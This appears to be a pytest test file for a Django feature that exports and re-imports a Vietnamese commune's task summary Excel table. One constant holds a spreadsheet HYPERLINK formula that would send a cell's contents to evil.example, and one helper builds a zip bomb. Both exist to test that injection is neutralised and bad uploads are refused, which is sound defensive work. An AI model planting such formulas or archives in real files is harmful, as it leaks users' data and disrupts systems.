"""importing.appendix: the task summary table written, read back, previewed and applied."""

import datetime
import io
import zipfile
from xml.etree import ElementTree

import pytest
from django.core.exceptions import PermissionDenied
from openpyxl import Workbook, load_workbook

from importing.appendix.applying import apply_appendix
from importing.appendix.common import AppendixError, StaleAppendixError
from importing.appendix.reading import read_appendix
from importing.appendix.workbook import write_appendix
from notifications.models import Notification
from plans.models import Role
from tasks.models import Task
from tasks.services import editing, versions

from ..conftest import make_person
from .conftest import edited, exported, find_header, row_of

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def snapshot(plan):
    """Everything the apply could touch: task versions and fields, notifications, history rows."""
    tasks = {
        t.code: (t.version, t.lead_id, sorted(t.cooperating.values_list("pk", flat=True)), t.deadline_text,
                 t.due_date, t.expected_output, t.remarks)
        for t in Task.objects.filter(plan=plan)
    }  # fmt: skip
    return tasks, Notification.objects.count(), Task.history.count()


# --- Export ---------------------------------------------------------------------------------------


def test_the_table_has_the_official_layout_groups_and_a_code_column(plan):
    ws = load_workbook(io.BytesIO(exported(plan))).active
    values = [list(row) for row in ws.iter_rows(values_only=True)]
    texts = [v for row in values for v in row if v]

    assert "BIỂU TỔNG HỢP NHIỆM VỤ" in texts
    assert "Kế hoạch nâng cao Chỉ số PAPI năm 2024" in texts
    assert "(Kèm theo Kế hoạch số 05/KH-UBND ngày 15/01/2024 của UBND xã Trung Trắc)" in texts
    header_row, _columns = find_header(ws)
    assert values[header_row - 1] == [
        "STT", "Mã", "Nhiệm vụ", "Chủ trì", "Phối hợp", "Thời gian hoàn thành", "Sản phẩm", "Ghi chú",
    ]  # fmt: skip
    body = values[header_row:]
    assert body[0][:3] == ["I", None, "Tham gia của người dân ở cấp cơ sở"]
    assert body[1] == [
        1, "1.1.a", "Họp dân bàn và quyết định các công trình công cộng", "Công chức Tư pháp - Hộ tịch",
        "Công chức Văn hóa - Xã hội", "Quý II/2024", "Biên bản họp", None,
    ]  # fmt: skip
    # The plan's own words where no official was matched; a deadline without words as a date.
    assert body[2][1:6] == [
        "1.1.b", "Công khai danh sách hộ nghèo", "Đài truyền thanh xã", "Mặt trận Tổ quốc xã, các đoàn thể",
        "Thường xuyên",
    ]  # fmt: skip
    assert body[3][:2] == ["II", None] and body[3][2] == "Trách nhiệm giải trình với người dân"
    assert body[4][1] == "1.3.a" and body[4][5] == "30/09/2024"
    assert body[5][:3] == ["III", None, "Các nhiệm vụ khác"]
    assert body[6][1] == "PL.1" and body[6][5] == "6 tháng đầu năm 2024"
    # The note that says what the code column is for.
    assert any("Cột “Mã” là mã của nhiệm vụ" in t for t in texts if isinstance(t, str))


def test_an_official_sharing_a_position_is_written_by_full_name(plan, commune):
    make_person("vanhoa2", commune, Role.OFFICIAL, "Công chức Văn hóa - Xã hội", "Lý Văn Tâm")
    ws = load_workbook(io.BytesIO(exported(plan))).active
    _header_row, columns = find_header(ws)

    assert ws.cell(row_of(ws, "1.1.a"), columns["Phối hợp"]).value == "Đỗ Thị Mai"
    assert read_appendix(io.BytesIO(exported(plan)), plan).changes == []


def test_hostile_cell_values_are_exported_as_text(plan):
    Task.objects.filter(code="1.3.a").update(remarks=HOSTILE, expected_output="@SUM(1)")
    data = exported(plan)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        root = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))  # noqa: S314 (our own file)
    assert root.findall(".//m:f", NS) == []
    ws = load_workbook(io.BytesIO(data)).active
    _header_row, columns = find_header(ws)
    cell = ws.cell(row_of(ws, "1.3.a"), columns["Ghi chú"])
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE, "s", True)
    # …and read back as the same text: no change.
    preview = read_appendix(io.BytesIO(data), plan)
    assert (preview.changes, preview.errors, preview.unchanged) == ([], [], 4)


# --- Reading: the preview -------------------------------------------------------------------------


def test_export_then_reimport_unchanged_gives_no_changes(plan):
    preview = read_appendix(io.BytesIO(exported(plan)), plan)

    assert preview.ok
    assert (preview.changes, preview.errors, preview.notes, preview.missing) == ([], [], [], [])
    assert preview.unchanged == 4
    assert preview.header_row == 9


def test_edited_cells_show_exactly_those_changes(plan, clerk, second_official):
    data = edited(
        exported(plan),
        {
            "1.1.a": {"lead": "Địa chính - Xây dựng", "cooperating": "Văn hóa - Xã hội; Nguyễn Thị Hoa"},
            "1.3.a": {"deadline": "Quý IV/2024", "output": "Sổ tiếp công dân\nBáo cáo quý"},
            "1.1.b": {"remarks": "Niêm yết 30 ngày"},
        },
    )
    preview = read_appendix(io.BytesIO(data), plan)

    assert preview.ok and preview.unchanged == 1
    shown = {c.task.code: [(f.field, f.before, f.after) for f in c.changes] for c in preview.changes}
    assert shown == {
        "1.1.a": [
            ("lead", "Công chức Tư pháp - Hộ tịch", "Công chức Địa chính - Xây dựng"),
            ("cooperating", "Công chức Văn hóa - Xã hội", "Công chức Văn hóa - Xã hội; Công chức Văn phòng - Thống kê"),
        ],
        "1.3.a": [
            ("deadline", "30/09/2024", "Quý IV/2024 (31/12/2024)"),
            ("output", "", "Sổ tiếp công dân\nBáo cáo quý"),
        ],
        "1.1.b": [("remarks", "", "Niêm yết 30 ngày")],
    }
    assert [c.row for c in preview.changes] == sorted(c.row for c in preview.changes)  # in the file's order
    assert nothing_written_by_a_preview(plan)


def nothing_written_by_a_preview(plan):
    return all(t.version == 1 for t in Task.objects.filter(plan=plan))


def test_a_real_date_cell_reads_as_a_date(plan):
    data = edited(exported(plan), {"1.3.a": {"deadline": datetime.datetime(2024, 11, 15)}})
    (change,) = read_appendix(io.BytesIO(data), plan).changes

    assert change.deadline.due_date == datetime.date(2024, 11, 15)
    assert [(f.before, f.after) for f in change.changes] == [("30/09/2024", "15/11/2024")]


def test_numbers_read_without_a_decimal_point_and_formula_like_text_stays_text(plan):
    data = edited(exported(plan), {"1.3.a": {"output": 3.0, "remarks": HOSTILE}})
    (change,) = read_appendix(io.BytesIO(data), plan).changes

    assert (change.output, change.remarks) == ("3", HOSTILE)


def test_officials_are_found_by_full_name_without_accents_and_in_any_order(plan, official, culture):
    data = edited(exported(plan), {"1.1.a": {"lead": "tran van binh", "cooperating": "  do thi mai ;"}})

    assert read_appendix(io.BytesIO(data), plan).changes == []


def test_the_title_is_not_imported_and_the_preview_says_so(plan):
    data = edited(exported(plan), {"1.1.a": {"task": "Tên mới"}})
    preview = read_appendix(io.BytesIO(data), plan)

    assert preview.changes == [] and preview.ok
    assert [(n.code, n.message) for n in preview.notes] == [
        ("1.1.a", "The task title is not imported; change it on the task's page.")
    ]


def test_rows_deleted_moved_or_regrouped_still_match_by_code(plan):
    wb = load_workbook(io.BytesIO(exported(plan)))
    ws = wb.active
    ws.delete_rows(row_of(ws, "1.1.b"))
    header_row, _ = find_header(ws)
    ws.insert_rows(header_row + 1, 2)  # blank lines and a heading of the clerk's own
    ws.cell(header_row + 1, 1).value = "Nhóm A"
    buffer = io.BytesIO()
    wb.save(buffer)

    preview = read_appendix(io.BytesIO(buffer.getvalue()), plan)
    assert preview.ok and preview.unchanged == 3 and preview.missing == ["1.1.b"]


def test_the_header_may_sit_anywhere_among_the_first_rows_and_columns_may_be_missing(plan):
    wb = Workbook()
    ws = wb.active
    ws.append(["Biểu của xã"])
    ws.append([])
    ws.append(["Mã", "Ghi chú"])
    ws.append(["1.3.a", "Mới"])
    buffer = io.BytesIO()
    wb.save(buffer)

    preview = read_appendix(io.BytesIO(buffer.getvalue()), plan)
    assert [(c.task.code, [f.field for f in c.changes]) for c in preview.changes] == [("1.3.a", ["remarks"])]


# --- Malformed files: one clear message, nothing applied ------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


def _workbook(*rows):
    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _zip_bomb():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * (20 * 1024 * 1024))
    return buffer.getvalue()


def _docx():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml'
            '.document.main+xml"/></Types>',
        )
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (PNG, "Upload an Excel workbook (.xlsx)"),
        (b"", "The file is empty."),
        (b"STT;Ma;Chu tri\n1;1.1.a;X\n", "Upload an Excel workbook (.xlsx)"),
        (_docx(), "Upload an Excel workbook (.xlsx)"),
        (_zip_bomb(), "is a damaged or suspicious archive"),
        (_workbook(["STT", "Nhiệm vụ", "Chủ trì"], [1, "Họp dân", "Tư pháp"]), "No table header found"),
        (_workbook(), "No table header found"),
        (b"PK\x03\x04" + b"\x00" * 200, "Upload an Excel workbook (.xlsx)"),
    ],
    ids=["png-renamed", "empty", "csv", "docx", "zip-bomb", "no-code-column", "blank-sheet", "broken-zip"],
)
def test_a_malformed_file_is_refused_in_one_line(plan, clerk, data, message):
    before = snapshot(plan)
    upload = io.BytesIO(data)
    upload.name = "bieu.xlsx"

    with pytest.raises(AppendixError) as caught:
        read_appendix(upload, plan)
    assert message in str(caught.value)
    assert "\n" not in str(caught.value)
    assert snapshot(plan) == before


def test_a_file_over_5_mb_is_refused(plan):
    with pytest.raises(AppendixError, match="larger than 5 MB"):
        read_appendix(io.BytesIO(b"PK\x03\x04" + b"\x00" * (5 * 1024 * 1024)), plan)


def test_row_errors_name_their_rows_and_nothing_is_applied(plan, clerk, commune):
    make_person("vanhoa2", commune, Role.OFFICIAL, "Công chức Văn hóa - Xã hội", "Lý Văn Tâm")
    data = exported(plan)
    wb = load_workbook(io.BytesIO(data))
    ws = wb.active
    _header_row, columns = find_header(ws)
    rows = {code: row_of(ws, code) for code in ("1.1.a", "1.1.b", "1.3.a", "PL.1")}
    ws.cell(rows["1.1.a"], columns["Chủ trì"]).value = "Ông Nguyễn Văn Không Có"
    ws.cell(rows["1.1.b"], columns["Thời gian hoàn thành"]).value = "giữa năm sau"
    ws.cell(rows["1.3.a"], columns["Phối hợp"]).value = "Văn hóa - Xã hội"  # two people hold it now
    ws.cell(rows["1.3.a"], columns["Sản phẩm"]).value = "Sổ tiếp dân"  # a valid change on an invalid row
    ws.cell(rows["PL.1"], columns["Mã"]).value = "9.9.z"
    ws.cell(rows["PL.1"], columns["Ghi chú"]).value = "Mới"
    buffer = io.BytesIO()
    wb.save(buffer)
    before = snapshot(plan)

    preview = read_appendix(io.BytesIO(buffer.getvalue()), plan)

    assert not preview.ok
    assert [(e.row, e.code, e.message) for e in preview.errors] == [
        (rows["1.1.a"], "1.1.a", "Unknown official: “Ông Nguyễn Văn Không Có”."),
        (rows["1.1.b"], "1.1.b", "Unreadable date: “giữa năm sau”."),
        (
            rows["1.3.a"],
            "1.3.a",
            "Ambiguous official: “Công chức Văn hóa - Xã hội” could be Đỗ Thị Mai, Lý Văn Tâm; write the full name.",
        ),
        (rows["PL.1"], "9.9.z", "Unknown code: “9.9.z”."),
    ]
    assert preview.changes == []
    with pytest.raises(AppendixError, match="has errors"):
        apply_appendix(preview, by=clerk)
    assert snapshot(plan) == before


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        ({"lead": "Tư pháp - Hộ tịch; Văn hóa - Xã hội"}, "Only one lead official per task"),
        ({"cooperating": "Văn hóa - Xã hội, Ban Không Tồn Tại"}, "Unknown official: “Văn hóa - Xã hội, Ban"),
        ({"cooperating": "Hoàng Thị Lan"}, "Unknown official"),  # the observer: not assignable
        ({"deadline": ""}, "The deadline is empty"),
        ({"code": ""}, "No task code"),
    ],
)
def test_more_row_errors(plan, commune, edit, message):
    make_person("mttq", commune, Role.OBSERVER, "Chủ tịch Ủy ban MTTQ xã", "Hoàng Thị Lan")
    data = edited(exported(plan), {"1.1.a": edit})

    (error,) = read_appendix(io.BytesIO(data), plan).errors
    assert message in error.message


def test_a_task_twice_in_the_file_is_an_error(plan):
    wb = load_workbook(io.BytesIO(exported(plan)))
    ws = wb.active
    ws.append([9, "1.1.a", "again", "Tư pháp - Hộ tịch"])
    buffer = io.BytesIO()
    wb.save(buffer)

    (error,) = read_appendix(io.BytesIO(buffer.getvalue()), plan).errors
    assert error.message == f"Task 1.1.a is also on row {row_of(ws, '1.1.a')}."


def test_a_deleted_task_is_an_unknown_code(plan, clerk):
    data = exported(plan)
    editing.soft_delete(Task.objects.get(code="PL.1"), by=clerk)

    (error,) = read_appendix(io.BytesIO(data), plan).errors
    assert error.message == "Unknown code: “PL.1”."


# --- Applying -------------------------------------------------------------------------------------


def test_apply_updates_the_tasks_writes_the_reason_and_notifies(plan, clerk, official, second_official, culture):
    data = edited(
        exported(plan),
        {
            "1.1.a": {"lead": "Địa chính - Xây dựng", "cooperating": "Văn hóa - Xã hội; Tư pháp - Hộ tịch"},
            "1.3.a": {"deadline": "Quý IV/2024", "output": "Sổ tiếp công dân"},
            "1.1.b": {"remarks": "Niêm yết 30 ngày"},
        },
    )
    preview = read_appendix(io.BytesIO(data), plan)
    untouched = Task.objects.get(code="PL.1").version

    done = apply_appendix(preview, by=clerk)

    assert sorted(t.code for t in done) == ["1.1.a", "1.1.b", "1.3.a"]
    first = Task.objects.get(code="1.1.a")
    assert first.lead == second_official
    assert set(first.cooperating.all()) == {culture, official}
    third = Task.objects.get(code="1.3.a")
    assert (third.deadline_kind, third.due_date, third.deadline_text) == (
        "period", datetime.date(2024, 12, 31), "Quý IV/2024",
    )  # fmt: skip
    assert third.expected_output == "Sổ tiếp công dân"
    assert Task.objects.get(code="1.1.b").remarks == "Niêm yết 30 ngày"
    assert Task.objects.get(code="PL.1").version == untouched

    reason = "Updated from the task summary table (Biểu tổng hợp nhiệm vụ)"
    for code in ("1.1.a", "1.1.b", "1.3.a"):
        latest = Task.history.filter(code=code, version__gt=1)
        assert latest.exists() and all(h.history_change_reason == reason for h in latest), code
        assert all(h.history_user == clerk for h in latest)
    # Newly assigned people are told; the official moved to cooperating was already on the task.
    assigned = Notification.objects.filter(kind=Notification.Kind.ASSIGNED, task=first)
    assert [n.recipient for n in assigned] == [second_official]
    deadline = Notification.objects.filter(kind=Notification.Kind.DEADLINE_CHANGED, task=third)
    assert [(n.recipient, n.actor, n.detail) for n in deadline] == [(second_official, clerk, reason)]


def test_a_task_changed_between_preview_and_apply_refuses_the_whole_table(plan, clerk):
    data = edited(exported(plan), {"1.1.a": {"output": "Biên bản mới"}, "1.3.a": {"remarks": "Mới"}})
    preview = read_appendix(io.BytesIO(data), plan)
    editing.change_deadline(
        Task.objects.get(code="1.3.a"),
        by=clerk,
        deadline=services_deadline("Quý III/2024"),
        reason="Họp giao ban",
    )
    before = snapshot(plan)

    with pytest.raises(StaleAppendixError) as caught:
        apply_appendix(preview, by=clerk)

    assert caught.value.codes == ["1.3.a"]
    assert "1.3.a" in str(caught.value)
    assert snapshot(plan) == before


def services_deadline(text):
    from tasks.deadlines import parse_deadline

    return parse_deadline(text, 2024)


def test_a_failing_service_call_rolls_back_the_tasks_already_changed(plan, clerk, monkeypatch):
    data = edited(exported(plan), {"1.1.a": {"output": "Biên bản mới"}, "1.3.a": {"remarks": "Mới"}})
    preview = read_appendix(io.BytesIO(data), plan)
    before = snapshot(plan)

    def refuse(*args, **kwargs):
        raise versions.TaskActionError("refused")

    monkeypatch.setattr("importing.appendix.applying._set_remarks", refuse)
    with pytest.raises(AppendixError, match="Nothing was applied: task 1.3.a: refused"):
        apply_appendix(preview, by=clerk)
    assert snapshot(plan) == before


def test_only_the_communes_clerk_may_apply(plan, chairman, outsider):
    preview = read_appendix(io.BytesIO(edited(exported(plan), {"1.3.a": {"remarks": "Mới"}})), plan)

    for person in (chairman, outsider):
        with pytest.raises(PermissionDenied):
            apply_appendix(preview, by=person)
    assert Task.objects.get(code="1.3.a").remarks == "Phối hợp với Ban Tiếp công dân"


def test_reading_and_writing_take_constant_queries(plan, django_assert_max_num_queries):
    for number in range(60):
        Task.objects.create(plan=plan, code=f"PL.{number + 2}", order=10 + number, title="Việc", text="Việc")
    data = exported(plan)
    # people and departments (2), tasks (1), their cooperating officials and departments (2), content
    # areas and lead departments are joined
    with django_assert_max_num_queries(5):
        write_appendix(io.BytesIO(), plan)
    with django_assert_max_num_queries(5):
        assert read_appendix(io.BytesIO(data), plan).unchanged == 64


def test_changes_other_than_those_previewed_are_refused(plan, clerk):
    preview = read_appendix(io.BytesIO(edited(exported(plan), {"1.3.a": {"remarks": "Mới"}})), plan)
    before = snapshot(plan)

    with pytest.raises(AppendixError, match="no longer those of the preview"):
        apply_appendix(preview, by=clerk, fingerprint="0" * 64)
    assert snapshot(plan) == before
